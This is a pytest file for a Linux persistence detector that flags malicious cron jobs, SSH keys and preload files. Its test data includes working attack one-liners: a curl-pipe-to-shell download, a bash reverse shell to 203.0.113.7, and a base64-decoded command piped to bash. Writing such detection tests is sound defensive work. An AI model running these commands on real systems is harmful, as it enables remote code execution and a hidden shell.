# SPDX-License-Identifier: Apache-2.0
"""A start-up item that downloads or hides is told; jobs and units of packages and of administrators are not."""

from __future__ import annotations

import pytest
from memory_events import MemoryEvents, at

from headwater.detect import registry
from headwater.detect.detectors import persistence
from headwater.model.kinds import EventKind, Severity
from headwater.model.ports import Settings

T = "2026-03-03 03:00:00"


def run(events: MemoryEvents) -> list:
    return list(registry.run(persistence, events, Settings()))


def job(command: str, path: str = "/etc/cron.d/x") -> MemoryEvents:
    kind = EventKind.STATE_SERVICE if "systemd" in path or "rc" in path.rsplit("/", 1)[-1] else EventKind.STATE_SCHEDULE
    return MemoryEvents().say("linux.crontab", "p1!" + path, (kind, None, {"command_line": command, "user": "root"}))


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("curl -s http://203.0.113.7/a.sh | sh", Severity.HIGH),
        ("/usr/local/lib/.cache-d/agent", Severity.HIGH),
        ("/dev/shm/kworker", Severity.HIGH),
        ("bash -i >& /dev/tcp/203.0.113.7/443 0>&1", Severity.HIGH),
        ("echo Y3VybA== | base64 -d | bash", Severity.HIGH),
        ("/tmp/update.sh", Severity.MEDIUM),
    ],
)
def test_suspicious_commands(command: str, severity: Severity) -> None:
    (found,) = run(job(command))
    assert found.severity == severity
    assert found.rule.techniques[0] == "T1053.003"


@pytest.mark.parametrize(
    "command",
    [
        "/opt/ops/backup.sh >>/var/log/backup.log 2>&1",
        "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
        "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
        "/usr/bin/certbot -q renew --no-random-sleep-on-renew",
        "rsync -a /srv/backup/ backup@10.20.0.8:/srv/web01/",
        "tar czf /srv/backup/data.tgz -C /srv data && scp /srv/backup/data.tgz db01:/srv/",
        "/opt/node-agent/agent.sh",
        "find /srv/backup -name '*.tgz' -mtime +3 -delete",
        "curl -s https://hc.example.org/ping/abc",
        "/usr/sbin/nginx -g 'daemon on; master_process on;'",
        "mysqldump --all-databases | gzip > /srv/backup/db.gz",
    ],
)
def test_everyday_jobs_are_nothing(command: str) -> None:
    assert run(job(command)) == []


def test_a_key_of_an_attackers_system_and_an_ordinary_one() -> None:
    def key(comment: str) -> MemoryEvents:
        own = {"key_type": "ssh-ed25519", "key_fingerprint": "SHA256:x", "comment": comment}
        return MemoryEvents().say(
            "linux.authorized_keys",
            "/root/.ssh/authorized_keys",
            (EventKind.STATE_KEY, None, {"user": "root", "fields": own}),
        )

    assert run(key("root@kali"))[0].severity == Severity.HIGH
    assert run(key("alice@desk")) == []


def changed(path: str, when: str, size: int = 90) -> MemoryEvents:
    return MemoryEvents().say(
        "fs.macb", "p1", (EventKind.FILE_MODIFIED, when, {"file_path": path, "fields": {"size": size, "uid": 0}})
    )


def entered(events: MemoryEvents) -> MemoryEvents:
    fails = [(EventKind.AUTH_FAILURE, T, {"src_ip": "203.0.113.7", "user": "root", "method": "password"})] * 20
    login = (EventKind.AUTH_SUCCESS, at(T) + 10**9, {"src_ip": "203.0.113.7", "user": "root", "method": "password"})
    return events.say("linux.auth", "/var/log/auth.log", *fails, login)


def test_a_start_up_file_written_after_an_entry_cites_the_entry() -> None:
    (found,) = run(entered(changed("/root/.ssh/authorized_keys", "2026-03-03 04:00:00")))
    assert found.severity == Severity.MEDIUM
    assert found.rule.techniques[0] == "T1098.004"
    assert any(c.claims.get("kind") == "auth.success" for c in found.spans)


def test_files_written_before_or_by_a_package_or_without_an_entry_are_nothing() -> None:
    path = "/etc/systemd/system/node-agent.service"
    assert run(changed(path, "2026-03-03 04:00:00")) == []
    assert run(entered(changed(path, "2026-03-01 04:00:00"))) == []
    installed = entered(changed(path, "2026-03-03 04:00:00"))
    installed.say("linux.dpkg", "/d", (EventKind.PACKAGE_INSTALL, "2026-03-03 04:00:10", {}))
    assert run(installed) == []


def test_a_preload_file_is_told_unless_empty() -> None:
    assert run(changed("/etc/ld.so.preload", T))[0].severity == Severity.MEDIUM
    assert run(changed("/etc/ld.so.preload", T, size=0)) == []
